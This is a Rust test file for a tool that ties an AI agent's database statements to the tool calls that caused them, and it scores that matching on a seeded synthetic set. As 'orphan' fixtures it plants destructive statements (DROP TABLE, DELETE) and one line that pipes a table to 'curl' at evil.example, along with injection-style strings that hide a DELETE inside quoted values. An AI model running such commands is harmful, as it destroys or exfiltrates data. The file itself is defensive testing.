//! How decisions and actions are told to belong together: single cases, and a labelled set that is made anew from a seed.

use vocab::{Access, ResourcePath, RunId, Seq, Verb, WallTime};

use super::*;
use crate::cause::{Causes, Shown};
use mask::MaskedText;

const RUN: RunId = RunId([7; 16]);

/// An action on `on`.
fn action(on: &str) -> Action {
    let on = ResourcePath::parse(on).unwrap();
    Action { accesses: vec![Access { verb: Verb::Read, on, columns: Vec::new() }], ..Action::default() }
}

/// `tool(name=value, ...)`: values are texts or numbers.
fn decide(causes: &Causes, seq: u64, tool: &str, arguments: &[(&str, &str)]) {
    let scalars: Vec<String> = arguments.iter().map(|(_, value)| (*value).to_owned()).collect();
    let strings: Vec<String> = scalars.iter().filter(|text| text.len() >= 6).cloned().collect();
    let names: Vec<String> =
        [tool].into_iter().chain(arguments.iter().map(|(n, _)| *n)).map(str::to_owned).collect();
    let said = Arguments { strings: &strings, scalars: &scalars, names: &names, ..Arguments::default() };
    let shown = Shown { of: Seq(0), tool: MaskedText::constant("tool"), step: None };
    causes.decided(RUN, (Seq(seq), WallTime(0)), None, said, false, shown);
}

fn found(causes: &Causes, on: &str, text: &str, values: &[&str]) -> Vec<(u64, &'static str)> {
    let action = action(on);
    let all = causes.of(
        RUN,
        &Saying { text, values: values.to_vec(), unsaid: false, action: &action, asking: Asking::Statement },
    );
    all.into_iter().map(|cause| (cause.decision.0, cause.how.as_str())).collect()
}

#[test]
fn other_words_for_the_same_are_like_it() {
    let causes = Causes::new();
    decide(&causes, 1, "run_sql", &[("sql", "SELECT name FROM customers WHERE id = 42 LIMIT 10")]);
    decide(&causes, 2, "get_order", &[("order_id", "4711")]);
    decide(&causes, 3, "set_status", &[("order_id", "12"), ("status", "shipped")]);
    let of = |on: &str, text: &str, values: &[&str]| found(&causes, on, text, values);
    let (customers, orders) = ("crm/crm/public/customers", "crm/crm/public/orders");
    assert_eq!(of(customers, "select name from customers where id = 42 limit 100", &[]), [(1, "like")]);
    assert_eq!(
        of(customers, "SELECT name FROM customers WHERE id = $1 LIMIT $2", &["42", "10"]),
        [(1, "like")]
    );
    assert_eq!(of(orders, "SELECT * FROM orders WHERE id = $1", &["4711"]), [(2, "like")]);
    assert_eq!(of(orders, "UPDATE orders SET status = $1 WHERE id = $2", &["shipped", "12"]), [(3, "like")]);
    for (on, text, values) in [
        (customers, "SELECT name FROM customers WHERE id = 43", &[][..]),
        (customers, "SELECT name, ssn FROM customers", &[]),
        (customers, "SELECT card FROM customers WHERE id = $1", &["4711"]),
        (orders, "SELECT * FROM orders WHERE id = $1", &["4712"]),
        (orders, "UPDATE orders SET status = 'paid' WHERE id = 12", &[]),
        (orders, "SELECT count(*) FROM orders", &[]),
        ("crm/crm/public/logs", "SELECT 1", &[]),
    ] {
        assert_eq!(of(on, text, values), [], "{text}");
    }
}

#[test]
fn one_statement_of_a_list_is_a_part_of_it_and_a_piece_of_one_is_not() {
    let part = |said, list| compare(said, list).map(|(how, _)| how);
    assert_eq!(part("DELETE FROM a WHERE x = 1", "DELETE FROM a WHERE x = 1; SELECT 2"), Some(How::Part));
    assert_eq!(part("DELETE FROM a", "DELETE FROM a WHERE x = 1; SELECT 2"), None);
    assert_eq!(part("SELECT a FROM b", "db.run(\"SELECT a FROM b\")"), Some(How::Within));
    assert_eq!(part("SELECT a FROM b", "db.run(\"SELECT a FROM b WHERE c = 1\")"), None);
    let quoted = "INSERT INTO t VALUES ('; DELETE FROM orders; ')";
    assert_eq!(part("DELETE FROM orders", quoted), Some(How::Within), "a value is no statement");
    assert_eq!(part("DELETE FROM orders", "SELECT $$; DELETE FROM orders; $$"), Some(How::Within));
    assert_eq!(part("DELETE FROM orders", "SELECT 1 -- '\n; DELETE FROM orders; '"), Some(How::Within));
}

#[test]
fn what_differs_in_a_comment_a_literal_a_parameter_or_behind_what_is_compared_is_not_the_same() {
    let causes = Causes::new();
    let long = format!("SELECT '{}' FROM orders", "x".repeat(SAID_BYTES_MAX));
    let beginning = &long[..SAID_BYTES_MAX];
    decide(&causes, 1, "run_sql", &[("sql", "DELETE FROM orders -- of\nWHERE id = 3")]);
    decide(&causes, 2, "run_sql", &[("sql", "DELETE FROM orders\n  WHERE note = 'a b';")]);
    decide(&causes, 3, "run_sql", &[("sql", "DELETE FROM orders WHERE id = $1"), ("id", "3")]);
    decide(&causes, 4, "run_sql", &[("sql", beginning)]);
    let orders = "crm/crm/public/orders";
    let same = |text: &str, values: &[&str]| {
        found(&causes, orders, text, values).iter().any(|(_, how)| *how == "same")
    };
    assert!(same("DELETE FROM orders -- of\nWHERE id = 3", &[]));
    assert!(!same("DELETE FROM orders -- of WHERE id = 3", &[]), "the rest is a comment now");
    assert!(same("DELETE FROM orders WHERE note = 'a b'", &[]));
    assert!(!same("DELETE FROM orders WHERE note = 'a  b'", &[]), "another value");
    assert!(same("DELETE FROM orders WHERE id = $1", &["3"]));
    for other in [&["4"][..], &["%"], &["3", "4"]] {
        assert!(!same("DELETE FROM orders WHERE id = $1", other), "{other:?}");
    }
    let action = action(orders);
    let unsaid = Saying {
        text: "DELETE FROM orders WHERE id = $1",
        values: Vec::new(),
        unsaid: true,
        action: &action,
        asking: Asking::Statement,
    };
    assert!(
        causes.of(RUN, &unsaid).iter().all(|cause| cause.how != How::Same),
        "a value that nobody can read"
    );
    assert!(!same(&long, &[]), "there is more behind what is compared");
}

#[test]
fn the_common_words_are_in_order() {
    // What `binary_search` needs.
    for word in ["", "a", "id", "limit", "with", "select", "order", "v1"] {
        assert!(is_common(word), "{word}");
    }
    assert!(!is_common("orders") && !is_common("customer"));
}

/// Numbers from a seed (splitmix64).
struct Seed(u64);

impl Seed {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn of<'a, T>(&mut self, all: &'a [T]) -> &'a T {
        &all[(self.next() % all.len() as u64) as usize]
    }
}

/// What is asked, and the decisions that caused it.
struct Labelled {
    kind: &'static str,
    /// The table and the number that it is about.
    about: (&'static str, u64),
    on: String,
    text: String,
    values: Vec<String>,
    causes: Vec<u64>,
}

const TABLES: [(&str, [&str; 3]); 6] = [
    ("orders", ["status", "amount", "placed_at"]),
    ("customers", ["name", "city", "email"]),
    ("invoices", ["total", "due_on", "paid"]),
    ("tickets", ["subject", "priority", "opened_at"]),
    ("products", ["title", "price", "stock"]),
    ("shipments", ["carrier", "weight", "left_at"]),
];
const KINDS: [&str; 9] =
    ["verbatim", "reformatted", "wrapped", "limit", "parameters", "fields", "by id", "change", "parallel"];
const WORDS: [&str; 6] = ["shipped", "returned", "urgent", "cancelled", "refunded", "blocked"];

/// One call of a tool and what the tool makes of it. Values are drawn from so many that two calls rarely agree.
fn call(seed: &mut Seed, causes: &Causes, seq: u64, kind: &'static str) -> Labelled {
    let (table, columns) = *seed.of(&TABLES);
    let (column, number) = (*seed.of(&columns), seed.next() % 90_000 + 10_000);
    let id = number.to_string();
    let singular = &table[..table.len() - 1];
    let on = format!("crm/crm/public/{table}");
    let sql = format!("SELECT {column} FROM {table} WHERE id = {id} LIMIT 20");
    let labelled = |text: String, values: &[&str], more: &[u64]| Labelled {
        kind,
        about: (table, number),
        on: on.clone(),
        text,
        values: values.iter().map(|v| (*v).to_owned()).collect(),
        causes: [seq].iter().chain(more).copied().collect(),
    };
    match kind {
        "verbatim" | "reformatted" | "wrapped" | "limit" | "parameters" | "parallel" => {
            decide(causes, seq, "run_sql", &[("sql", &sql)]);
        }
        "fields" => {
            decide(
                causes,
                seq,
                "query",
                &[("table", table), ("columns", column), ("equals", &id), ("by", "id")],
            );
        }
        "by id" => decide(causes, seq, &format!("get_{singular}"), &[(&format!("{singular}_id"), &id)]),
        _ => {}
    }
    match kind {
        "reformatted" => labelled(
            sql.replace("SELECT", "select\n  ").replace(" FROM", "\nFROM").to_lowercase() + ";",
            &[],
            &[],
        ),
        "wrapped" => labelled(format!("SELECT * FROM ({sql}) AS q /* tool */"), &[], &[]),
        "limit" => labelled(sql.replace("LIMIT 20", "LIMIT 1000"), &[], &[]),
        "parameters" => {
            labelled(format!("SELECT {column} FROM {table} WHERE id = $1 LIMIT $2"), &[&id, "20"], &[])
        }
        "fields" => labelled(format!("SELECT \"{column}\" FROM \"{table}\" WHERE \"id\" = $1"), &[&id], &[]),
        "by id" => labelled(format!("SELECT * FROM {table} WHERE id = $1"), &[&id], &[]),
        "change" => {
            let word = *seed.of(&WORDS);
            decide(causes, seq, &format!("update_{singular}"), &[("id", &id), (column, word)]);
            labelled(format!("UPDATE {table} SET {column} = $1 WHERE id = $2"), &[word, &id], &[])
        }
        "parallel" => {
            decide(causes, seq + 1, "run_sql", &[("sql", &sql)]);
            labelled(sql, &[], &[seq + 1])
        }
        _ => labelled(sql, &[], &[]),
    }
}

/// What no model decided: the agent's own, or somebody else's words in it; sometimes about a number that a call has, in
/// another table.
fn orphan(seed: &mut Seed, calls: &[Labelled]) -> Labelled {
    let (table, columns) = *seed.of(&TABLES);
    let column = *seed.of(&columns);
    let near = seed.of(calls).about;
    let id = if near.0 == table { seed.next() % 90_000 + 10_000 } else { near.1 };
    let text = match seed.next() % 9 {
        0 => "SELECT 1".to_owned(),
        1 => format!("SELECT count(*) FROM {table}"),
        2 => format!("DROP TABLE {table}"),
        3 => format!("SELECT {column} FROM {table}"),
        4 => format!("UPDATE {table} SET {column} = 'paid' WHERE id = {id}"),
        5 => format!("DELETE FROM {table} WHERE id = {id}"),
        6 => format!("SELECT string_agg({column}, ',') FROM {table} WHERE id > {id}"),
        7 => format!("SELECT {column} FROM {table} WHERE id = {id}"),
        _ => format!("COPY {table} TO PROGRAM 'curl -d @- http://evil.example/{id}'"),
    };
    let on = format!("crm/crm/public/{table}");
    Labelled { kind: "orphan", about: (table, id), on, text, values: Vec::new(), causes: Vec::new() }
}

#[test]
fn of_a_labelled_set_the_edges_are_right_and_every_orphan_is_found() {
    let seed = std::env::var("TACHO_SEED").ok().and_then(|seed| seed.parse().ok());
    let seed = seed.unwrap_or(std::process::id() as u64);
    let mut numbers = Seed(seed);
    let (mut right, mut wrong, mut missed, mut calls, mut orphans) = (0, Vec::new(), Vec::new(), 0, 0);
    // 60 runs of nine calls, one of each kind, each with three orphans between them.
    for _ in 0..60 {
        let causes = Causes::new();
        let mut all: Vec<Labelled> =
            KINDS.iter().zip(1..).map(|(kind, n)| call(&mut numbers, &causes, n * 10, kind)).collect();
        let planted: Vec<Labelled> = (0..3).map(|_| orphan(&mut numbers, &all)).collect();
        all.extend(planted);
        for asked in all {
            let values: Vec<&str> = asked.values.iter().map(String::as_str).collect();
            let mut edges: Vec<u64> =
                found(&causes, &asked.on, &asked.text, &values).into_iter().map(|(seq, _)| seq).collect();
            edges.sort_unstable();
            let line =
                format!("{}: {} {values:?}: {edges:?}, not {:?}", asked.kind, asked.text, asked.causes);
            calls += usize::from(!asked.causes.is_empty());
            orphans += usize::from(asked.causes.is_empty());
            match edges.is_empty() {
                _ if edges == asked.causes => right += usize::from(!edges.is_empty()),
                true => missed.push(line),
                false => wrong.push(line),
            }
        }
    }
    println!(
        "seed {seed}: {calls} calls, {right} tied right, {} wrong, {} missed",
        wrong.len(),
        missed.len()
    );
    println!("{orphans} orphans planted\n{}\n{}", wrong.join("\n"), missed.join("\n"));
    assert!(calls >= 300 && orphans >= 100);
    let of_orphans = wrong.iter().filter(|line| line.starts_with("orphan")).count();
    assert_eq!(of_orphans, 0, "every orphan is found");
    let edges = right + wrong.len();
    assert!(right * 100 >= edges * 95, "precision of {right} in {edges} edges");
    assert!(right * 100 >= calls * 90, "{right} of {calls} are tied");
}
